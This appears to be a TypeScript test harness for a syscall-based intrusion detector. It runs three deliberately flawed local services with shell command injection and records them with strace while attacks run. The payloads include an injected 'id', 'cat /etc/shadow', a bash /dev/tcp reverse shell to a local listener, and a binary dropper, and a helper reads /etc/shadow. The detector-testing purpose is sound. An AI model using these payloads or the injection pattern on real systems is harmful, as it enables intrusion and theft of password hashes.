/**
 * Real services for the syscall detector's benchmark and live tests: three small services in different languages
 * (Python http.server with a thread per request, Node http, a fork-per-connection C server), each with realistic
 * normal requests and the same flaw (a request parameter pasted into a shell command), and four attacks through it:
 * an injected command, reading /etc/shadow, a reverse shell to a local listener, and dropping and running a binary.
 * Everything listens on 127.0.0.1. Recording attaches `strace -f -ttt -p PID` to the running service, the way a
 * service in production is recorded (and watched).
 */
import { type ChildProcess, execFileSync, spawn } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, readFileSync } from "node:fs";
import { request } from "node:http";
import { createServer, type Server } from "node:net";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { randomInt, seededRandom } from "../../src/core/random.ts";

const HERE = dirname(fileURLToPath(import.meta.url));

export const ATTACKS = ["inject", "shadow", "revshell", "dropper"] as const;
export type AttackName = (typeof ATTACKS)[number];

interface RequestSpec {
  method: "GET" | "POST";
  path: string;
  body?: string;
}

export interface ServiceSpec {
  name: string;
  language: string;
  /** Whether it can run here (interpreter or compiler present). */
  available(): boolean;
  /** The command that starts it on `port`, keeping its data in `data`. */
  command(port: number, data: string, build: string): string[];
  /** One normal request, drawn with `random`. */
  normal(random: () => number): RequestSpec;
  /** The flawed request with `payload` (a shell command) appended to its parameter. */
  exploit(payload: string): RequestSpec;
}

const PYTHON = "/usr/bin/python3";

function pick<T>(random: () => number, items: readonly T[]): T {
  return items[randomInt(random, items.length)];
}

function weighted(random: () => number, items: [number, () => RequestSpec][]): RequestSpec {
  const total = items.reduce((s, [w]) => s + w, 0);
  let x = random() * total;
  for (const [w, make] of items) {
    x -= w;
    if (x < 0) return make();
  }
  return items[0][1]();
}

const WORDS = ["line", "note", "alpha", "beta", "inventory", "bolt", "nut", "report"];

export const SERVICES: ServiceSpec[] = [
  {
    name: "python-notes",
    language: "Python 3.11 http.server (thread per request)",
    available: () => existsSync(PYTHON),
    command: (port, data) => [PYTHON, join(HERE, "python-app.py"), String(port), data],
    normal: (r) =>
      weighted(r, [
        [3, () => ({ method: "GET", path: "/" })],
        [3, () => ({ method: "GET", path: `/notes/note${randomInt(r, 5)}.txt` })],
        [
          1,
          () => ({
            method: "POST",
            path: `/notes/draft${randomInt(r, 3)}.txt`,
            body: `${pick(r, WORDS)} ${r()}`,
          }),
        ],
        [2, () => ({ method: "GET", path: "/api/stats" })],
        [2, () => ({ method: "GET", path: `/count?file=note${randomInt(r, 5)}.txt` })],
        [1, () => ({ method: "GET", path: `/search?q=${pick(r, WORDS)}` })],
      ]),
    exploit: (payload) => ({
      method: "GET",
      path: `/count?file=${encodeURIComponent(`note1.txt; ${payload}`)}`,
    }),
  },
  {
    name: "node-inventory",
    language: `Node ${process.version} http`,
    available: () => true,
    command: (port, data) => [process.execPath, join(HERE, "node-app.mjs"), String(port), data],
    normal: (r) =>
      weighted(r, [
        [3, () => ({ method: "GET", path: "/" })],
        [3, () => ({ method: "GET", path: "/api/items" })],
        [1, () => ({ method: "POST", path: "/api/items", body: pick(r, WORDS) })],
        [2, () => ({ method: "GET", path: "/api/time" })],
        [1, () => ({ method: "GET", path: "/disk" })],
        [2, () => ({ method: "GET", path: `/convert?text=${pick(r, WORDS)}` })],
      ]),
    exploit: (payload) => ({
      method: "GET",
      path: `/convert?text=${encodeURIComponent(`hello; ${payload}`)}`,
    }),
  },
  {
    name: "c-status",
    language: "C (fork per connection, popen)",
    available: () => hasCompiler(),
    command: (port, _data, build) => [join(build, "c-app"), String(port)],
    normal: (r) =>
      weighted(r, [
        [3, () => ({ method: "GET", path: "/" })],
        [3, () => ({ method: "GET", path: "/status" })],
        [2, () => ({ method: "GET", path: `/ping?host=host${randomInt(r, 9)}` })],
      ]),
    // The C server decodes nothing but '+': the payload goes raw, spaces as '+'.
    exploit: (payload) => ({ method: "GET", path: `/ping?host=h1;${payload.replaceAll(" ", "+")}` }),
  },
];

function hasCompiler(): boolean {
  try {
    execFileSync("cc", ["--version"], { stdio: "ignore" });
    return true;
  } catch {
    return false;
  }
}

export function hasStrace(): boolean {
  try {
    execFileSync("strace", ["-V"], { stdio: "ignore" });
    return true;
  } catch {
    return false;
  }
}

/** Builds what a service needs (the C server) into `build`. */
export function buildService(service: ServiceSpec, build: string): void {
  mkdirSync(build, { recursive: true });
  if (service.name === "c-status")
    execFileSync("cc", ["-O2", "-o", join(build, "c-app"), join(HERE, "c-app.c")]);
}

/** The shell command each attack runs through the flaw. */
export function attackPayload(attack: AttackName, ctx: { listenerPort: number; scratch: string }): string {
  switch (attack) {
    case "inject":
      return "id";
    case "shadow":
      return "cat /etc/shadow";
    case "revshell":
      return `bash -c 'sh -i >& /dev/tcp/127.0.0.1/${ctx.listenerPort} 0>&1'`;
    case "dropper": {
      const dropped = join(ctx.scratch, ".cache-update");
      return `cp /usr/bin/id ${dropped} && chmod +x ${dropped} && ${dropped} && rm -f ${dropped}`;
    }
  }
}

export interface RunningService {
  pid: number;
  port: number;
  stop(): Promise<void>;
}

/** Starts a service and waits until it answers. */
export async function startService(
  service: ServiceSpec,
  port: number,
  data: string,
  build: string,
): Promise<RunningService> {
  mkdirSync(data, { recursive: true });
  const [file, ...args] = service.command(port, data, build);
  const child = spawn(file, args, { stdio: "ignore" });
  const exited = new Promise<void>((resolve) => child.on("exit", () => resolve()));
  for (let i = 0; i < 100; i++) {
    try {
      await send(port, { method: "GET", path: "/" });
      return {
        pid: child.pid!,
        port,
        stop: async () => {
          child.kill("SIGTERM");
          await exited;
        },
      };
    } catch {
      await sleep(100);
    }
  }
  child.kill("SIGKILL");
  throw new Error(`${service.name} did not start on port ${port}`);
}

/** One request on a fresh connection; resolves with the body. */
export function send(port: number, spec: RequestSpec, timeoutMs = 20_000): Promise<string> {
  return new Promise((resolve, reject) => {
    const req = request(
      { host: "127.0.0.1", port, method: spec.method, path: spec.path, agent: false, timeout: timeoutMs },
      (res) => {
        let body = "";
        res.setEncoding("utf8");
        res.on("data", (chunk) => {
          body += chunk;
        });
        res.on("end", () => resolve(body));
        res.on("error", reject);
      },
    );
    req.on("timeout", () => req.destroy(new Error("request timed out")));
    req.on("error", reject);
    if (spec.body !== undefined) req.write(spec.body);
    req.end();
  });
}

/** `count` normal requests, a few at a time, with short random pauses. */
export async function normalTraffic(
  service: ServiceSpec,
  port: number,
  count: number,
  seed: number,
): Promise<void> {
  const random = seededRandom(seed);
  for (let sent = 0; sent < count; ) {
    const batch = Math.min(count - sent, 1 + randomInt(random, 3));
    await Promise.all(Array.from({ length: batch }, () => send(port, service.normal(random))));
    sent += batch;
    await sleep(randomInt(random, 40));
  }
}

/** A local listener for the reverse shell: runs a few commands an intruder would, then exits the shell. */
export class ShellListener {
  private server: Server | null = null;
  readonly sessions: string[] = [];

  async start(): Promise<number> {
    this.server = createServer((socket) => {
      let seen = "";
      socket.setEncoding("utf8");
      socket.on("data", (chunk) => {
        seen += chunk;
      });
      socket.on("close", () => this.sessions.push(seen));
      socket.on("error", () => undefined);
      socket.write("id\nuname -a\ncat /etc/hostname\nls /\nexit\n");
    });
    await new Promise<void>((resolve) => this.server!.listen(0, "127.0.0.1", resolve));
    const address = this.server.address();
    return typeof address === "object" && address !== null ? address.port : 0;
  }

  async stop(): Promise<void> {
    await new Promise<void>((resolve) => this.server?.close(() => resolve()) ?? resolve());
  }
}

export interface Recording {
  file: string;
  stop(): Promise<void>;
}

/** Attaches `strace -f -ttt -o file -p PID` and resolves once it has attached to every thread. */
export async function attachStrace(pid: number, file: string): Promise<Recording> {
  const threads = readdirSync(`/proc/${pid}/task`).length;
  const child: ChildProcess = spawn("strace", ["-f", "-ttt", "-o", file, "-p", String(pid)], {
    stdio: ["ignore", "ignore", "pipe"],
  });
  const exited = new Promise<void>((resolve) => child.on("exit", () => resolve()));
  let attached = 0;
  await new Promise<void>((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error("strace did not attach")), 10_000);
    child.stderr!.setEncoding("utf8");
    child.stderr!.on("data", (chunk: string) => {
      // "Process N attached" per thread, or once "Process N attached with M threads".
      for (const m of chunk.matchAll(/attached(?: with (\d+) threads)?/g))
        attached += m[1] ? Number(m[1]) : 1;
      if (attached >= threads) {
        clearTimeout(timer);
        resolve();
      }
    });
  });
  return {
    file,
    stop: async () => {
      child.kill("SIGINT");
      await exited;
    },
  };
}

export function sleep(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

/** The /etc/shadow line the attack should have read, to check the attack really ran. */
export function shadowFirstLine(): string {
  return readFileSync("/etc/shadow", "utf8").split("\n")[0];
}
